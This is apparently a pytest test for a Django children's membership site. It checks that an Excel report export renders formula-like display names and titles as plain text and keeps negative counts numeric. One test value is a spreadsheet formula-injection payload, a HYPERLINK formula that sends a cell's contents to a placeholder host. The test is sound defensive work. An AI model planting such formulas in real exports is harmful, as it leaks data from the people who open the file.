"""Issue 15 §4, the attacker: children apply through the membership form with a formula for a
display name (the KLA workbook lists active members without a valid consent by display name),
and a consultation's title is one; the officer downloads the KLA workbook. No cell is a formula
or a text a spreadsheet would evaluate, and a negative figure stays a number."""

from datetime import timedelta

import pytest
from django.utils import timezone

from forumanak.membership import services
from forumanak.membership.models import ConsentRequest, Member
from tests.cell_checks import PAYLOADS, body, shown_as_text, xlsx_cells
from tests.conftest import make_user, sign_in_with_second_factor
from tests.consultations.conftest import make_consultation
from tests.reports.conftest import build_city, consent_texts, staff

pytestmark = pytest.mark.django_db


def _apply(client, n, display_name):
    dob = timezone.localdate().replace(year=timezone.localdate().year - 13) - timedelta(days=30)
    response = client.post("/anggota/daftar/", {
        "full_name": f"Anak Uji {chr(65 + n)}", "display_name": display_name, "date_of_birth": dob.isoformat(), "gender": "P",
        "kecamatan": "64.71.01", "kelurahan": "64.71.01.1001", "school": "SMPN 1 Balikpapan",
        "guardian_name": "Ratna", "guardian_relationship": "ibu", "guardian_email": f"wali{n}@example.test",
        "guardian_phone": "0812-1", "guardian_language": "id", "email": "", "username": f"anak-uji-{n}",
        "password1": "Rahasia-Sekali-9", "password2": "Rahasia-Sekali-9", "agreement": "on",
    }, REMOTE_ADDR=f"10.0.{n}.1")  # one phone each (the form allows a few a minute per address)
    assert response.status_code == 302, (display_name, response.context and response.context["form"].errors)
    client.logout()
    return Member.objects.get(user__username=f"anak-uji-{n}")


def test_kla_workbook_holds_no_formula_and_keeps_negative_figures(client):
    city = build_city()
    consent_texts()
    # The application form now refuses such names (issue 25 §4: names are letters and name
    # punctuation), so they reach the database only another way (an import, the paper register,
    # a record from before the rule): the writer must hold on its own.
    refused = client.post("/anggota/daftar/", {"display_name": PAYLOADS[0], "full_name": "Anak Uji"})
    assert refused.status_code in (200, 429) and "display_name" in refused.context["form"].errors
    applied = [_apply(client, n, f"Anak {chr(65 + n)}") for n in range(len(PAYLOADS))]
    for member, payload in zip(applied, PAYLOADS, strict=True):
        Member.objects.filter(pk=member.pk).update(display_name=payload)
        member.display_name = payload
    names = set(PAYLOADS)
    pembina = staff("pembina", city["forums"]["city"], "pembina")
    for member in applied:  # the guardian agrees from the link, the pembina approves
        token = services.new_token()
        ConsentRequest.objects.filter(member=member).update(token_hash=ConsentRequest.hash_token(token))
        services.decide_by_link(token=token, purpose="membership", decision="granted", date_of_birth=member.date_of_birth,
                                guardian_name="Ratna", ip_address="10.0.0.1", user_agent="pytest")
        member.refresh_from_db()
        services.approve_member(member=member, actor=pembina)
    # then their consent record is missing (as for a member carried over from the paper
    # register): the consent sheet of the workbook lists them by display name
    Member.objects.filter(pk__in=[m.pk for m in applied]).update(membership_consent="")
    now = timezone.now()
    for n in range(len(applied) + 2):  # more joined before the period and left in it: growth is -2
        user = make_user(f"lama-{n}", email="")
        Member.objects.create(
            user=user, forum=city["forums"]["64.71.01.1001"], status=Member.Status.WITHDRAWN, full_name="Lama",
            display_name="Lama", date_of_birth=applied[0].date_of_birth, gender="L", kelurahan=city["regions"]["64.71.01.1001"],
            kecamatan_id="64.71.01", birth_year=applied[0].date_of_birth.year, member_number=f"FA-LAMA-{n}",
            applied_at=now - timedelta(days=90), approved_at=now - timedelta(days=60), ended_at=now - timedelta(hours=1),
        )
    make_consultation(city["forums"]["city"], title='=HYPERLINK("http://x?leak="&A1,"klik")')
    sign_in_with_second_factor(client, pembina)

    today = timezone.localdate()
    response = client.get("/admin/kla/unduh.xlsx", {"dari": (today - timedelta(days=30)).isoformat(),
                                                   "sampai": today.isoformat()})
    assert response.status_code == 200
    cells = xlsx_cells(body(response))
    values = {c.value for c in cells}
    # (an XML reader turns a carriage return into a line feed: openpyxl reads "\r=1" back as "\n=1")
    assert {shown_as_text(name).replace("\r", "\n") for name in names} <= values
    assert shown_as_text('=HYPERLINK("http://x?leak="&A1,"klik")') in values

    def figure(sheet, label):
        row = next(c.row for c in cells if c.parent.title == sheet and c.column == 1 and c.value == label)
        cell = next(c for c in cells if c.parent.title == sheet and c.row == row and c.column == 2)
        return cell.value, cell.data_type

    assert figure("Anggota", "Pertumbuhan dalam periode") == (-2, "n")
    assert figure("Anggota", today.strftime("%m-%Y")) == (len(applied), "n")  # joined this month
    net = next(c for c in cells if c.parent.title == "Anggota" and c.column == 4
               and any(o.row == c.row and o.column == 1 and o.value == today.strftime("%m-%Y") for o in cells))
    assert (net.value, net.data_type) == (-2, "n")
